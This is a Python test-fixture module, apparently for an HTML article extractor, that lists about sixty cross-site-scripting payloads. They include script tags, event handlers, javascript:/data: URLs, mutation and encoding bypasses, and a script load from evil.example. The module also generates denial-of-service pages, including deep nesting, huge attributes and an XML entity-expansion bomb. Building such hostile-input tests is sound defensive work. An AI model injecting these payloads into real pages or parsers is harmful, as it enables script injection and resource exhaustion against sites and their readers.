"""Pages that attack whoever reads them: scripts in every disguise, and markup that costs time and memory."""

ARTICLE = "Общината откри новия мост над Сазлийка след ремонт, който продължи две години и половина. "

SCRIPTS = (
    # plain, and in odd spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    # handlers
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<body onload="alert(1)">',
    '<p onmouseover="alert(1)">текст</p>',
    '<a href="https://a.example" onclick="alert(1)">връзка</a>',
    "<details open ontoggle=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src onloadstart="alert(1)"></audio>',
    "<marquee onstart=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # addresses
    '<a href="javascript:alert(1)">връзка</a>',
    '<a href="JaVaScRiPt:alert(1)">връзка</a>',
    '<a href=" &#14; javascript:alert(1)">връзка</a>',
    '<a href="java&#x09;script:alert(1)">връзка</a>',
    '<a href="java\nscript:alert(1)">връзка</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">връзка</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">връзка</a>',
    '<a href="vbscript:msgbox(1)">връзка</a>',
    '<a href="view-source:javascript:alert(1)">връзка</a>',
    '<a href="//evil.example\\@a.example">връзка</a>',
    '<img src="javascript:alert(1)">',
    '<img data-src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 2x, data:text/html,x 3x">',
    '<base href="javascript:alert(1)//"><a href="x">връзка</a>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    # embedded and foreign markup
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
    '<template><img src=x onerror="alert(1)"></template>',
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">текст</p>',
    '<p style="width:expression(alert(1))">текст</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    # what only becomes markup when somebody decodes once more
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<noscript>&lt;img src=x onerror="alert(1)"&gt;</noscript>',
    '<img alt="&quot;><script>alert(1)</script>" src="https://a.example/b.jpg">',
    '<p title="&lt;script&gt;alert(1)&lt;/script&gt;">текст</p>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<script\x00>alert(1)</script>",
)
"""Each stands inside an article."""


def _bomb() -> str:
    inner = {0: "aaaaaaaaaa", **{level: f"&a{level - 1};" * 10 for level in range(1, 10)}}
    return "".join(f'<!ENTITY a{level} "{text}">' for level, text in inner.items())


def costly() -> dict[str, str]:
    """Return pages made to cost time or memory, by what they do."""
    n = 20_000
    return {
        "nested divisions": "<div>" * n + ARTICLE * 5,
        "nested emphasis": "<p>" + "<b>" * n + ARTICLE,
        "nested fonts": "<font><span>" * n + ARTICLE,
        "nested lists": "<ul><li>" * n + ARTICLE,
        "nested tables": "<table><tr><td>" * 5_000 + ARTICLE,
        "nested quotes": "<blockquote>" * n + ARTICLE,
        "unclosed links": "<a href='/x'>" * n + ARTICLE,
        "huge attribute": f'<p class="{"a" * 2_000_000}">{ARTICLE * 3}</p>',
        "many attributes": "<p " + " ".join(f"a{i}=1" for i in range(n)) + f">{ARTICLE * 3}</p>",
        "many classes": f'<div class="{"share " * 100_000}"><p>{ARTICLE * 3}</p></div>',
        "entities": f"<p>{'&amp;' * 200_000} {ARTICLE}</p>",
        "numeric entities": f"<p>{'&#1072;' * 200_000} {ARTICLE}</p>",
        "entity bomb": f"<!DOCTYPE html [{_bomb()}]><p>&a9; {ARTICLE * 3}</p>",
        "long word": f"<p>{'а' * 1_000_000}</p><p>{ARTICLE * 3}</p>",
        "long number": f"<p>{'1' * 500_000}</p><p>{ARTICLE * 3}</p>",
        "long blank": f"<p>{ARTICLE}{' ' * 500_000}x</p>",
        "blanks in a line of details": f"<h1>Мост</h1><p>Автор:{' ' * 100_000}x</p><p>{ARTICLE * 3}</p>",
        "many bars": f"<h1>Мост</h1><p>{'| ' * 50_000}</p><p>{ARTICLE * 3}</p>",
        "many counters": "<p>Прочетена: 12 пъти</p>" * 3_000 + f"<p>{ARTICLE * 3}</p>",
        "many short paragraphs": f"<p>{ARTICLE}</p>" * 3_000,
        "many headings": "<h2>Мост над реката</h2>" * 3_000 + f"<p>{ARTICLE * 3}</p>",
        "many labels": "<h3>Още новини</h3><p><a href='/1'>Затварят моста над реката</a></p>" * 1_000
        + f"<p>{ARTICLE * 3}</p>",
        "many comments labels": f"<p>{ARTICLE}</p><h3>Коментари</h3>" * 500,
        "many breaks": f"<p>{ARTICLE}{'<br>' * 50_000}{ARTICLE}</p>",
        "many pictures": '<img src="/a.jpg" class="caption">' * 3_000 + f"<p>{ARTICLE * 3}</p>",
        "many frames": '<iframe src="https://www.youtube.com/embed/aB3dE6gH9jK"></iframe>' * 5_000
        + f"<p>{ARTICLE * 3}</p>",
        "many documents": '<div class="attachment"><a href="/a.pdf">Заповед</a></div>' * 3_000
        + f"<p>{ARTICLE * 3}</p>",
        "many cells": "<table><tr>" + "<td>1</td>" * 20_000 + f"</tr></table><p>{ARTICLE * 3}</p>",
        "wide cell": f"<table><tr><td colspan=99999>1</td></tr></table><p>{ARTICLE * 3}</p>",
        "many comments": "<!-- x -->" * 50_000 + f"<p>{ARTICLE * 3}</p>",
        "unclosed comment": "<!--" * 50_000 + f"<p>{ARTICLE * 3}</p>",
        "many less-than": "<" * 300_000 + f"<p>{ARTICLE * 3}</p>",
        "deep JSON-LD": '<script type="application/ld+json">'
        + "[" * 200_000
        + f"</script><p>{ARTICLE * 3}</p>",
        "long JSON-LD": '<script type="application/ld+json">['
        + '{"@type":"Article"},' * 30_000
        + f"{{}}]</script><p>{ARTICLE * 3}</p>",
        "long title": f"<title>{'Мост – ' * 50_000}</title><h1>{'Мост | ' * 20_000}</h1><p>{ARTICLE * 3}</p>",
        "many dates": f"<h1>Мост</h1><p>{ARTICLE}{'на 12 март и 13 април ' * 20_000}.</p>",
        "half a date": f"<h1>Мост</h1><p>{ARTICLE}{'12 - ' * 50_000}.</p>",
        "many metas": '<meta name="date" content="x">' * 20_000 + f"<p>{ARTICLE * 3}</p>",
        "long srcset": f'<img srcset="{"/a.jpg 1x, " * 50_000}"><p>{ARTICLE * 3}</p>',
        "one long sentence": f"<p>{'дума ' * 200_000}.</p>",
        "reuse words": f"<p>{ARTICLE * 3}</p><p>{'препечатване материал ' * 17}</p>" * 50,
        "share words": f"<p>{ARTICLE * 3}</p><p>{'сподели във ' * 9}!а</p>" * 200,
        "bold letters": f"<p>{ARTICLE * 3}</p>{'<b>а</b>' * 4_900}",
        "half an address": f"<p>{ARTICLE * 3}</p><p>{'@' * 60_000}</p>",
        "dates in a row": f"<p>{ARTICLE * 3}</p><p>{ARTICLE}{'12.03.2026 ' * 8_000}</p>",
        "author of blanks": f"<meta name=author content='{chr(0xA0) * 60_000}x'><p>{ARTICLE * 3}</p>",
        "link of signs": f"<p>{ARTICLE * 3}<a href='/a.pdf'>{'=' * 60_000}</a></p>",
        "menu words": f"<p>{ARTICLE * 3}</p><p>{'начало ' * 20}а</p>" * 200,
    }
